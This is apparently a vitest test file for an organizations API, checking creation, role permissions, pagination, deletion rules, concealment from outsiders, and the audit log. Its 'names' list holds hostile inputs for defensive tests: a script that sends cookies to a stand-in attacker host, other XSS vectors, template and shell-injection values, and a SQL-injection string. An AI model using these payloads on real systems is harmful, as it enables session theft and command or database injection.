// Organizations over HTTP: who sees and changes them, what their log says, and names that look like something else.
import type { Role } from '@shipway/api/people'
import { describe, expect, test } from 'vitest'
import { databases } from '../../../test/databases.ts'
import { buildOrganization, buildProject, buildServer, buildToken, buildUser } from '../../../test/factories.ts'
import { stageApp } from '../../../test/stage/stage-app.ts'
import { stageMembers } from '../../../test/stage/stage-members.ts'
import { openTestApp } from '../../../test/test-app.ts'

const names = [
  "<script>fetch('//attacker.test/'+document.cookie)</script>",
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '{{7*7}}',
  '$' + '{7*7}',
  "<iframe srcdoc='<script>alert(1)</script>'>",
  '<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>',
  '[x](javascript:alert(1))',
  'proj;touch $CANARY',
  'proj`touch $CANARY`',
  "proj'$(touch $CANARY)'",
  'proj%0atouch%20$CANARY',
  'Click https://evil.example to accept',
  "Robert'); drop table organizations;--",
]

describe.each(databases)('organizations on $name', (source) => {
  const app = stageApp(source, { hasOpenOrganizations: true })
  const roles = { owner: 'owner', admin: 'admin', member: 'member', viewer: 'viewer' } as const
  const { owner, admin, member, viewer, organization: own } = stageMembers(app, roles)

  const path = (rest = '') => `/api/organizations/${own.id}${rest}`
  const actionsOf = async (id: number) => {
    const rows = await app.ctx.db.selectFrom('audit_events').where('organization_id', '=', id).selectAll().execute()
    return rows.map(({ action }) => action)
  }

  test('the creator of an organization owns it', async () => {
    const stranger = await buildUser(app.ctx)
    const made = await app.call('POST', '/api/organizations', { as: stranger, body: { name: 'Acme' } })
    expect(made.status).toBe(201)
    expect(made.headers.location).toBe(`/api/organizations/${made.body.id}`)
    const organization = {
      id: expect.any(Number),
      name: 'Acme',
      role: 'owner',
      created_at: '2026-01-02T03:04:05.678Z',
      require_two_factor: false,
    }
    expect(made.body).toEqual(organization)
    const again = await app.call('GET', `/api/organizations/${made.body.id}`, { as: stranger })
    expect(again.body).toEqual(made.body)
    expect(await actionsOf(made.body.id)).toEqual(['organization.created'])
  })

  test('only a platform administrator makes one, unless a setting lets everybody', async () => {
    const closed = await openTestApp(source)
    const stranger = await buildUser(closed.ctx)
    const make = (as: { token: string }) => closed.call('POST', '/api/organizations', { as, body: { name: 'Acme' } })
    expect(await make(stranger)).toMatchObject({
      status: 403,
      body: { code: 'insufficient_role', detail: expect.stringContaining('Only a platform administrator') },
    })
    // Whatever else they own.
    await buildOrganization(closed.ctx, [{ user: stranger, role: 'owner' }])
    expect(await make(stranger)).toMatchObject({ status: 403 })
    expect(await make(await buildUser(closed.ctx, { is_platform_admin: 1 }))).toMatchObject({ status: 201 })
    await closed.close()
  })

  test('a token that is bound to an organization makes no other', async () => {
    const token = await buildToken(app.ctx, owner.id, { organization_id: own.id })
    const refused = await app.call('POST', '/api/organizations', { as: { token }, body: { name: 'Acme' } })
    expect(refused).toMatchObject({ status: 403, body: { code: 'organization_not_accessible' } })
  })

  test('the list holds one’s own organizations, newest first, page by page', async () => {
    const user = await buildUser(app.ctx)
    expect((await app.call('GET', '/api/organizations', { as: user })).body).toEqual([])
    const roles: Role[] = ['viewer', 'owner', 'member']
    const ids: number[] = []
    for (const role of roles) ids.unshift((await buildOrganization(app.ctx, [{ user, role }])).id)
    const first = await app.call('GET', '/api/organizations?limit=2', { as: user })
    const next = /<([^>]+)>; rel="next"/.exec(String(first.headers.link))?.[1] ?? ''
    const second = await app.call('GET', next, { as: user })
    const listed = [...first.body, ...second.body].map(({ id, role }) => [id, role])
    expect(listed).toEqual(ids.map((id, index) => [id, roles.toReversed()[index]]))
    expect(second.headers.link).toBeUndefined()
  })

  test('the header narrows the list to one', async () => {
    const user = await buildUser(app.ctx)
    const { id } = await buildOrganization(app.ctx, [{ user, role: 'owner' }])
    const other = await buildOrganization(app.ctx, [{ user, role: 'owner' }])
    const headers = { 'x-service-organization': String(id) }
    const list = await app.call('GET', '/api/organizations', { as: user, headers })
    expect(list.body.map((organization: { id: number }) => organization.id)).toEqual([id])
    expect((await app.call('GET', `/api/organizations/${other.id}`, { as: user, headers })).status).toBe(404)
  })

  test.each(names)('the name %j is kept as it is', async (name) => {
    const made = await app.call('POST', '/api/organizations', { as: owner, body: { name } })
    expect(made).toMatchObject({ status: 201, body: { name } })
    const url = `/api/organizations/${made.body.id}`
    expect((await app.call('PATCH', url, { as: owner, body: { name: `${name}${name}` } })).body.name).toBe(name + name)
    const read = await app.call('GET', url, { as: owner })
    expect(read.body.name).toBe(name + name)
    expect(read.headers['content-type']).toMatch(/^application\/json/)
  })

  test.each(['', ' ', 'a\0b', 'x'.repeat(201)])('the name %j is refused', async (name) => {
    const refused = await app.call('POST', '/api/organizations', { as: owner, body: { name } })
    expect(refused).toMatchObject({ status: 422, body: { errors: [{ pointer: '/name' }] } })
  })

  test('only an owner renames and deletes', async () => {
    for (const user of [viewer, member, admin]) {
      const renamed = await app.call('PATCH', path(), { as: user, body: { name: 'Taken' } })
      expect(renamed).toMatchObject({ status: 403, body: { code: 'insufficient_role' } })
      const deleted = await app.call('DELETE', path(), { as: user })
      expect(deleted).toMatchObject({ status: 403, body: { code: 'insufficient_role' } })
    }
    const read = await app.call('GET', path(), { as: viewer })
    expect(read.body).toMatchObject({ id: own.id, role: 'viewer' })
    expect(read.body.name).not.toBe('Taken')
  })

  test('an organization with a server or a project stays', async () => {
    const organization = await buildOrganization(app.ctx, [{ user: owner, role: 'owner' }])
    const url = `/api/organizations/${organization.id}`
    const server = await buildServer(app.ctx, organization.id)
    expect(await app.call('DELETE', url, { as: owner })).toMatchObject({ status: 409, body: { code: 'in_use' } })
    await buildProject(app.ctx, { organizationId: organization.id, ownerId: owner.id, serverId: server.id })
    expect(await app.call('DELETE', url, { as: owner })).toMatchObject({ status: 409, body: { code: 'in_use' } })
    expect((await app.call('GET', url, { as: owner })).status).toBe(200)
  })

  test('an empty organization goes with its members, invitations and tokens', async () => {
    const organization = await buildOrganization(app.ctx, [
      { user: owner, role: 'owner' },
      { user: viewer, role: 'viewer' },
    ])
    const url = `/api/organizations/${organization.id}`
    const token = await buildToken(app.ctx, viewer.id, { organization_id: organization.id })
    await app.call('POST', `${url}/invitations`, { as: owner, body: { email: 'x@example.com', role: 'viewer' } })
    expect(await app.call('DELETE', url, { as: owner })).toMatchObject({ status: 204, text: '' })
    for (const user of [owner, viewer]) expect((await app.call('GET', url, { as: user })).status).toBe(404)
    expect((await app.call('GET', '/api/organizations', { as: { token } })).status).toBe(401)
    const { db } = app.ctx
    const left = await db.selectFrom('invitations').where('organization_id', '=', organization.id).selectAll().execute()
    const events = await db
      .selectFrom('audit_events')
      .where('target_id', '=', organization.id)
      .where('action', '=', 'organization.deleted')
      .selectAll()
      .execute()
    expect(left).toEqual([])
    expect(events).toMatchObject([{ user_id: owner.id, organization_id: null }])
  })

  test('a stranger and a platform administrator find nothing of it, as if it were not there', async () => {
    const stranger = await buildUser(app.ctx)
    await buildOrganization(app.ctx, [{ user: stranger, role: 'owner' }])
    const platformAdmin = await buildUser(app.ctx, { is_platform_admin: 1 })
    const requests = (id: number) =>
      [
        ['GET', `/api/organizations/${id}`, undefined],
        ['PATCH', `/api/organizations/${id}`, { name: 'Mine' }],
        ['DELETE', `/api/organizations/${id}`, undefined],
        ['GET', `/api/organizations/${id}/members`, undefined],
        ['PATCH', `/api/organizations/${id}/members/${owner.id}`, { role: 'viewer' }],
        ['DELETE', `/api/organizations/${id}/members/${owner.id}`, undefined],
        ['DELETE', `/api/organizations/${id}/members/${stranger.id}`, undefined],
        ['GET', `/api/organizations/${id}/invitations`, undefined],
        ['POST', `/api/organizations/${id}/invitations`, { email: 'x@example.com', role: 'owner' }],
        ['DELETE', `/api/organizations/${id}/invitations/1`, undefined],
        ['GET', `/api/organizations/${id}/audit`, undefined],
      ] as const
    const before = await actionsOf(own.id)
    for (const user of [stranger, platformAdmin]) {
      const absent = requests(999_999)
      for (const [index, [method, url, body]] of requests(own.id).entries()) {
        const hidden = await app.call(method, url, { as: user, body })
        const unknown = await app.call(method, absent[index]?.[1] ?? '', { as: user, body })
        expect(hidden.status).toBe(404)
        const { instance: _, request_id: __, ...said } = hidden.body
        expect(unknown.body).toMatchObject(said)
      }
    }
    expect(await actionsOf(own.id)).toEqual(before)
  })

  test('the audit log is for admins and owners, newest first, with names of fields', async () => {
    await app.call('PATCH', path(), { as: owner, body: { name: 'First' } })
    await app.call('PATCH', path(), { as: owner, body: { name: 'Second' } })
    for (const user of [viewer, member]) {
      expect(await app.call('GET', path('/audit'), { as: user })).toMatchObject({
        status: 403,
        body: { code: 'insufficient_role' },
      })
    }
    for (const user of [admin, owner]) {
      const log = await app.call('GET', path('/audit?limit=1'), { as: user })
      expect(log.body).toEqual([
        {
          id: expect.any(Number),
          at: '2026-01-02T03:04:05.678Z',
          actor: { id: owner.id, name: owner.name },
          action: 'organization.updated',
          target: { kind: 'organization', id: own.id, name: 'First' },
          fields: ['name'],
          address: '127.0.0.1',
          request_id: expect.any(String),
        },
      ])
      expect(log.headers.link).toContain('rel="next"')
    }
  })
})
